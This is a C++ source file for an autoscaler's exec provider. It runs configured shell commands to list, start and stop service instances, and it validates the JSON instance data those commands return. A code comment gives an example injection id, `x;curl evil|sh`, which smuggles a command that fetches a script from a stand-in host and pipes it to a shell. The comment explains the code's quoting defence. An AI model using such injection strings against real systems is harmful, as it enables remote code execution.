#include "scaling/providers/exec_provider.h"

#include <fmt/format.h>

#include <algorithm>

#include "core/json_reader.h"
#include "core/service_spec.h"
#include "scaling/providers/placeholders.h"
#include "scaling/providers/run_command.h"

namespace ballast::scaling {

namespace {

// One {"id","host","port","state"?} object; problems are added to `r`.
std::optional<Instance> readInstance(core::JsonReader& r, core::WallTime now) {
  Instance instance;
  instance.startedAt = now;
  instance.state = InstanceState::kRunning;
  // The id goes back to the scale-in command (as BALLAST_INSTANCE): only
  // characters no shell gives a meaning to.
  auto id = r.string("id", {.required = true, .minLength = 1, .maxLength = 64});
  if (id && !core::isPlainName(*id)) {
    r.addError("id", "must be 1-64 characters of A-Z, a-z, 0-9, '.', '_' and '-'");
    id.reset();
  }
  auto host = r.string("host", {.required = true, .minLength = 1, .maxLength = 253});
  if (host && !core::isValidHost(*host))
    r.addError("host", "is not a valid host name or IP address");
  auto port = r.integer("port", {.required = true, .min = 1, .max = 65535});
  if (auto state = r.string("state", {.oneOf = {"starting", "running", "stopping"}})) {
    if (*state == "starting") instance.state = InstanceState::kStarting;
    if (*state == "stopping") instance.state = InstanceState::kStopping;
  }
  if (!id || !host || !port) return std::nullopt;
  instance.id = *id;
  instance.host = *host;
  instance.port = static_cast<int>(*port);
  return instance;
}

std::string describeErrors(const core::Error& e) {
  std::vector<std::string> parts;
  for (const auto& d : e.details) parts.push_back(d.path + " " + d.message);
  return parts.empty() ? e.message : fmt::format("{}", fmt::join(parts, "; "));
}

}  // namespace

core::Result<std::vector<Instance>> parseInstanceList(const std::string& text, core::WallTime now) {
  auto json = core::parseJson(text);
  if (!json) return std::unexpected(json.error());
  if (!json->is_array()) {
    return core::fail(
        core::ErrorCode::kBadGateway,
        fmt::format("expected a JSON array of instances, got {}", core::jsonTypeName(*json)));
  }
  std::vector<Instance> out;
  std::vector<std::string> problems;
  for (size_t i = 0; i < json->size(); ++i) {
    core::JsonReader r((*json)[i], core::PathStyle::kJsonPointer, "/" + std::to_string(i));
    auto instance = readInstance(r, now);
    r.rejectUnknown();
    if (auto ok = r.result(); !ok) {
      problems.push_back(describeErrors(ok.error()));
    } else if (instance) {
      out.push_back(std::move(*instance));
    }
  }
  if (!problems.empty()) {
    return core::fail(core::ErrorCode::kBadGateway,
                      fmt::format("the instance list is malformed: {}", fmt::join(problems, "; ")));
  }
  return out;
}

ExecProvider::ExecProvider(ExecProviderSpec spec, std::string serviceName, core::Clock& clock)
    : spec_(std::move(spec)), serviceName_(std::move(serviceName)), clock_(clock) {}

core::Result<std::string> ExecProvider::run(const std::string& commandTemplate,
                                            const std::string& instanceId) {
  SpawnRequest request;
  // The id came from a command's output: it reaches the command only as an
  // environment variable, and {instance} expands to a quoted reference to it,
  // never to its text (an id like `x;curl evil|sh` stays one word).
  std::map<std::string, std::string> values = {{"service", shellQuote(serviceName_)}};
  request.environment.emplace_back("BALLAST_SERVICE", serviceName_);
  if (!instanceId.empty()) {
    values["instance"] = "\"$BALLAST_INSTANCE\"";
    request.environment.emplace_back("BALLAST_INSTANCE", instanceId);
  }
  request.command = substitutePlaceholders(commandTemplate, values);
  const CommandOutcome outcome =
      runCommand(request, std::chrono::milliseconds(spec_.timeout), clock_);
  if (!outcome.succeeded) {
    return core::fail(outcome.timedOut ? core::ErrorCode::kTimeout : core::ErrorCode::kBadGateway,
                      describeFailure(request.command, outcome));
  }
  return outcome.out;
}

core::Result<std::vector<Instance>> ExecProvider::list() {
  auto out = run(spec_.list, "");
  if (!out) return std::unexpected(out.error());
  auto parsed = parseInstanceList(*out, clock_.wallNow());
  if (!parsed) {
    return core::fail(
        core::ErrorCode::kBadGateway,
        fmt::format("`{}` printed no valid instance list: {}", spec_.list, parsed.error().message));
  }
  return parsed;
}

void ExecProvider::merge(std::vector<Instance> fresh) {
  for (auto& instance : fresh) {
    auto old = std::find_if(known_.begin(), known_.end(),
                            [&](const Instance& k) { return k.id == instance.id; });
    if (old != known_.end()) instance.startedAt = old->startedAt;  // first seen, not last listed
    if (stopping_.contains(instance.id)) instance.state = InstanceState::kStopping;
  }
  known_ = std::move(fresh);
}

core::Result<Instance> ExecProvider::start() {
  std::set<std::string> before;
  for (const auto& k : known_) before.insert(k.id);
  auto out = run(spec_.scaleOut, "");
  if (!out) return std::unexpected(out.error());
  auto printed = core::parseJson(*out);
  if (printed && printed->is_object()) {
    core::JsonReader r(*printed);
    auto instance = readInstance(r, clock_.wallNow());
    r.rejectUnknown();
    if (!instance || !r.result()) {
      return core::fail(core::ErrorCode::kBadGateway,
                        fmt::format("`{}` printed an instance that is malformed: {}",
                                    spec_.scaleOut, describeErrors(r.result().error())));
    }
    instance->state = InstanceState::kStarting;
    std::erase_if(known_, [&](const Instance& k) { return k.id == instance->id; });
    known_.push_back(*instance);
    return *instance;
  }
  auto listed = list();
  if (!listed) return std::unexpected(listed.error());
  merge(*listed);
  for (const auto& instance : known_) {
    if (!before.contains(instance.id)) return instance;
  }
  return core::fail(
      core::ErrorCode::kBadGateway,
      fmt::format(
          "`{}` succeeded but printed no instance and `{}` lists none new; make the scale-out "
          "command print {{\"id\",\"host\",\"port\"}} of the instance it starts",
          spec_.scaleOut, spec_.list));
}

core::Status ExecProvider::stop(const std::string& id) {
  auto it =
      std::find_if(known_.begin(), known_.end(), [&](const Instance& k) { return k.id == id; });
  if (it == known_.end())
    return core::fail(core::ErrorCode::kNotFound,
                      fmt::format("no instance {} of service {}", id, serviceName_));
  auto out = run(spec_.scaleIn, id);
  if (!out) return std::unexpected(out.error());
  stopping_.insert(id);
  it->state = InstanceState::kStopping;
  return {};
}

std::vector<InstanceExit> ExecProvider::reap() {
  const auto now = clock_.now();
  if (lastRefresh_ && now - *lastRefresh_ < refreshInterval_) return {};
  lastRefresh_ = now;
  auto listed = list();
  if (!listed) return {};  // keep what we knew; the next reap tries again
  std::vector<InstanceExit> exits;
  for (const auto& old : known_) {
    const bool present = std::any_of(listed->begin(), listed->end(),
                                     [&](const Instance& i) { return i.id == old.id; });
    if (present) continue;
    InstanceExit exit{old, stopping_.contains(old.id), ""};
    exit.instance.state = InstanceState::kExited;
    exit.description =
        exit.expected ? "stopped (no longer listed)" : "vanished from the instance list";
    stopping_.erase(old.id);
    exits.push_back(std::move(exit));
  }
  merge(std::move(*listed));
  return exits;
}

}  // namespace ballast::scaling
